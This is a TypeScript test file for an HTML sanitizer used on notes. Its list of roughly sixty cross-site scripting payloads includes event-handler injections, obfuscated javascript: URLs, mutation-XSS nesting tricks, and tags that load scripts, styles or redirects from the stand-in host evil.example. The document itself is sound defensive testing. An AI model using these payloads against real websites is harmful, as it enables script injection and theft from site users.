import { parseDocument } from 'htmlparser2';
import { processorMs } from '../../../test/support/processor-time.js';
import { sanitizedHtml } from './note-html.js';

interface Node {
  readonly name?: string;
  readonly attribs?: Readonly<Record<string, string>>;
  readonly children?: readonly Node[];
}

/** Returns all elements of parsed HTML. */
function elementsOf(html: string): Node[] {
  const visit = (node: Node): Node[] => [...(node.name ? [node] : []), ...(node.children ?? []).flatMap(visit)];
  return visit(parseDocument(html) as Node);
}

const HARMLESS = new Set(['href', 'title', 'rel', 'src', 'alt', 'width', 'height', 'colspan', 'rowspan']);
const RUNS =
  /^(script|style|svg|math|iframe|frame|object|embed|form|input|button|base|link|meta|template|noscript|video)$/;

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=//evil.example/x.png>',
  '"><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<a href=x style="position:fixed">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import url(//evil.example);</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<form action=//evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p class="x" id="y" data-x="z" contenteditable autofocus onfocus=alert(1)>x</p>',
  '<div =onmouseover=alert(1)>x</div>',
  '<a href="https://example.com/" target=_blank>x</a>',
  '<<b>script>alert(1)<</b>/script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('the HTML of a note', () => {
  it('keeps ordinary formatting', () => {
    const html =
      '<h2>Call</h2><p>With <strong>Ada</strong> &amp; <em>Eve</em>:<br />two <a href="https://example.com/a?b=c&amp;d=e" ' +
      'rel="noopener noreferrer nofollow">seats</a></p><ul><li>one</li></ul>' +
      '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><img src="https://example.com/x.png" alt="x" />';
    expect(sanitizedHtml(html)).toBe(html);
  });

  it.each(['plain text', 'größer 🎉 日本', '1 &lt; 2 &amp; 3', 'a\nb'])('keeps "%s" unchanged', (text) => {
    expect(sanitizedHtml(text)).toBe(text);
  });

  it.each(ATTACKS)('T34 removes active content: %s', (attack) => {
    const clean = sanitizedHtml(`<p>before</p>${attack}`);
    expect(clean).toMatch(/^<p>before<\/p>/);
    for (const { name = '', attribs = {} } of elementsOf(clean)) {
      expect(name).not.toMatch(RUNS);
      for (const [attribute, value] of Object.entries(attribs)) {
        expect(HARMLESS).toContain(attribute);
        if (attribute === 'href' || attribute === 'src') expect(value).toMatch(/^(https?:|mailto:|tel:|[^:/]*$)/);
      }
    }
  });

  it.each(ATTACKS)('T34 removes nothing more the second time: %s', (attack) => {
    const once = sanitizedHtml(attack);
    expect(sanitizedHtml(once)).toBe(once);
  });

  it('T22 T34 limits time and nesting for malicious HTML', async () => {
    const ms = await processorMs(() => {
      for (const part of ['<div>', '<b><i>', '<a href="x', '&', '<!--', '<', '"\'', '<td '])
        expect(elementsOf(sanitizedHtml(part.repeat(8_000))).length).toBeLessThan(8_001);
    });
    expect(ms).toBeLessThan(300);
  });
});
